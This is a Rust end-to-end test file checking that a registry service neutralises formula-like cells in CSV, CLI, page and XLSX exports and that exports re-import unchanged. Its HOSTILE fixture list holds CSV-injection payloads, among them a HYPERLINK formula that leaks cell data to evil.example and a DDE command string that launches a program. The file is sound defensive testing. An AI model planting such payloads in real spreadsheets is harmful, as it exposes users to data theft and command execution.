//! Exports as spreadsheets receive them: formula-like cells neutralised the same way by
//! the server (HTTP and CLI) and by the scope map's own list download, and an exported
//! file that re-imports as "all unchanged".

use std::process::Command;

use scope_registry::domain::spreadsheet;
use serde_json::{Value, json};

use crate::e2e;
use crate::fixtures::cn;
use crate::support::TestApp;

const IMPORT: &str = "mutation($csv: String!) { importDesignations(csv: $csv) {
    rowsRead created unchanged operatorsCreated errors { line column message } } }";

/// Names and references that Excel, LibreOffice or openpyxl would evaluate.
const HOSTILE: [&str; 5] = [
    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    "+81-3-1234-5678",
    "-2+3",
    "@SUM(A1:A9)",
    "-cmd|' /C calc'!A0",
];

fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let body = text.strip_prefix('\u{feff}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// An import file naming one operator per hostile value, written by the csv crate.
fn hostile_file() -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(scope_registry::domain::import::COLUMNS).unwrap();
    for (i, value) in HOSTILE.iter().enumerate() {
        let number = cn(i as u64 + 1);
        // name_en "-1": a legitimately negative number stays a number.
        writer.write_record([number.as_str(), value, "-1", "CI", "gas", "", "2024-04-01", "", value, value]).unwrap();
    }
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

async fn get(app: &TestApp, path: &str, token: Option<&str>) -> String {
    let mut request = app.request(reqwest::Method::GET, path);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    response.text().await.unwrap()
}

async fn hostile_cells_are_neutralised_and_reimport_unchanged(app: TestApp) -> TestApp {
    let admin = app.token("admin", None);
    let imported = app.data(IMPORT, json!({ "csv": hostile_file() }), Some(&admin)).await;
    assert_eq!(imported["importDesignations"]["created"], HOSTILE.len(), "{imported}");

    let exported = get(&app, "/export/operators.csv?asOf=2025-01-01", Some(&admin)).await;
    let rows = csv_cells(&exported);
    for (i, value) in HOSTILE.iter().enumerate() {
        let row = rows.iter().find(|row| row[0] == cn(i as u64 + 1)).unwrap();
        let written = format!("'{value}");
        assert_eq!([&row[1], &row[8], &row[9]], [&written; 3], "name_ja, legal_basis and reference of {value:?}");
        assert_eq!(row[2], "-1", "a number stays a number");
    }
    // No cell of any export starts like a formula (unless it is a number).
    for (path, token) in [
        ("/export/operators.csv", Some(admin.as_str())),
        ("/export/overlap.csv", Some(admin.as_str())),
        ("/export/crosswalk.csv", None),
        ("/export/scope-gaps.csv", None),
    ] {
        for cell in csv_cells(&get(&app, path, token).await).into_iter().flatten() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!formula, "{path}: {cell:?} would be a formula");
        }
    }
    // The command line writes the same bytes.
    let cli = app.cli(&["export", "operators", "--as-of", "2025-01-01"]);
    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
    assert_eq!(String::from_utf8(cli.stdout).unwrap(), exported);

    // The import removes exactly the `'` the export added.
    let again = app.data(IMPORT, json!({ "csv": exported }), Some(&admin)).await["importDesignations"].clone();
    assert_eq!(
        again,
        json!({ "rowsRead": HOSTILE.len(), "created": 0, "unchanged": HOSTILE.len(), "operatorsCreated": 0, "errors": [] })
    );
    let query = format!(r#"{{ operator(corporateNumber: "{}") {{ nameJa }} }}"#, cn(1));
    assert_eq!(app.data(&query, json!({}), Some(&admin)).await["operator"]["nameJa"], HOSTILE[0]);
    app
}

/// A CSV that Excel re-saved: dates as `2024/4/1`, a corporate number as `1.44444E+12`.
async fn a_csv_excel_saved_imports_its_dates_and_explains_its_numbers(app: TestApp) -> TestApp {
    let admin = app.token("admin", None);
    let header = scope_registry::domain::import::COLUMNS.join(",");
    let saved = format!("{header}\r\n{},エクセル株式会社,,CI,gas,,2024/4/1,2025/04/01,,\r\n", cn(1));
    let report = app.data(IMPORT, json!({ "csv": saved }), Some(&admin)).await["importDesignations"].clone();
    assert_eq!(report["created"], 1, "{report}");
    let query = format!(
        r#"{{ operator(corporateNumber: "{}") {{ designations(includeHistory: true) {{ effectiveFrom effectiveTo }} }} }}"#,
        cn(1)
    );
    let stored = app.data(&query, json!({}), Some(&admin)).await;
    assert_eq!(
        stored["operator"]["designations"][0],
        json!({ "effectiveFrom": "2024-04-01", "effectiveTo": "2025-04-01" })
    );

    let mangled = format!("{header}\r\n1.44444E+12,数値化株式会社,,CI,gas,,2024/4/1,,,\r\n");
    let report = app.data(IMPORT, json!({ "csv": mangled }), Some(&admin)).await["importDesignations"].clone();
    let error = &report["errors"][0];
    assert_eq!((error["line"].clone(), error["column"].clone()), (json!(2), json!("corporate_number")), "{report}");
    let message = error["message"].as_str().unwrap();
    assert!(message.contains("Excel turned into a number") && message.contains("as text"), "{message}");
    assert_eq!(report["created"], 0);
    app
}

/// The workbook: a sheet per view, corporate numbers as text, dates as dates; the
/// command-line import reads it back as all unchanged, and names bad cells by reference.
async fn the_workbook_opens_in_excel_and_reimports_unchanged(app: TestApp) -> TestApp {
    use calamine::{Data, Reader};
    let admin = app.token("admin", None);
    assert!(app.cli(&["seed", "--demo"]).status.success());
    let response = app
        .request(reqwest::Method::GET, "/export/workbook.xlsx?asOf=2026-01-01")
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.unwrap().to_vec();
    let anonymous = app.request(reqwest::Method::GET, "/export/workbook.xlsx").send().await.unwrap();
    assert_eq!(anonymous.status(), 401);

    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
    assert_eq!(
        book.sheet_names(),
        ["表紙", "対応表", "対応なし", "重なり（対応の組）", "重なり（事業ごとの漏れ）", "事業者"]
    );
    let operators = book.worksheet_range("事業者").unwrap();
    assert_eq!(operators.get((0, 0)), Some(&Data::String("法人番号".into())));
    assert!(matches!(operators.get((1, 0)), Some(Data::String(n)) if n.len() == 13), "corporate numbers are text");
    assert!(matches!(operators.get((1, 6)), Some(Data::DateTime(_))), "dates are dates: {:?}", operators.get((1, 6)));

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("book.xlsx");
    std::fs::write(&path, &bytes).unwrap();
    let output = app.cli(&["import", path.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let rows = operators.height() - 1;
    assert!(
        stderr.contains(&format!("{rows} rows read, 0 created (0 operators registered), {rows} unchanged, 0 errors")),
        "{stderr}"
    );

    // A bad date and a corporate number Excel made a number, named by cell.
    let mut bad = rust_xlsxwriter::Workbook::new();
    let sheet = bad.add_worksheet().set_name("事業者").unwrap();
    for (i, column) in scope_registry::domain::import::COLUMNS.iter().enumerate() {
        sheet.write_string(0, i as u16, *column).unwrap();
    }
    sheet.write_string(1, 0, cn(1)).unwrap().write_string(1, 1, "テスト").unwrap();
    sheet
        .write_string(1, 3, "CI")
        .unwrap()
        .write_string(1, 4, "gas")
        .unwrap()
        .write_string(1, 6, "2024-13-01")
        .unwrap();
    sheet.write_number(2, 0, 1_444_440_000_000.0).unwrap().write_string(2, 1, "数値").unwrap();
    std::fs::write(&path, bad.save_to_buffer().unwrap()).unwrap();
    let output = app.cli(&["import", path.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success());
    assert!(stderr.contains("事業者!G2: "), "{stderr}");
    assert!(stderr.contains("事業者!A3: ") && stderr.contains("Excel turned into a number"), "{stderr}");
    app
}

/// The page's `csvField` (service/src/http/page/js/downloads.js), run in Node.js, writes what
/// the server's rule writes, quoted.
#[test]
fn the_page_neutralises_cells_as_the_server_does() {
    if Command::new("node").arg("--version").output().is_err() {
        assert!(std::env::var_os("CI").is_none(), "node is needed to run the page's csvField");
        eprintln!("skipped: node is not installed");
        return;
    }
    let page = include_str!("../../service/src/http/page/js/downloads.js");
    let start = page.find("function csvField(value) {").expect("csvField in js/downloads.js");
    let end = start + page[start..].find("\n}\n").expect("the end of csvField") + 2;
    let ordinary =
        ["-12", "-0.5", "東京電力", "O'Brien", "'s-Hertogenbosch", "a=b", "'-1", "''@twice", "\t=tab", "\r=cr"];
    let values: Vec<&str> = HOSTILE.iter().chain(&ordinary).copied().collect();
    let script = format!("{}\nconsole.log(JSON.stringify({}.map(csvField)));", &page[start..end], json!(values));
    let output = Command::new("node").args(["-e", &script]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let written: Vec<String> = serde_json::from_slice::<Value>(&output.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_owned())
        .collect();
    let expected: Vec<String> =
        values.iter().map(|v| format!("\"{}\"", spreadsheet::neutralise(v).replace('"', "\"\""))).collect();
    assert_eq!(written, expected);
}

e2e!(
    hostile_cells_are_neutralised_and_reimport_unchanged,
    a_csv_excel_saved_imports_its_dates_and_explains_its_numbers,
    the_workbook_opens_in_excel_and_reimports_unchanged,
);
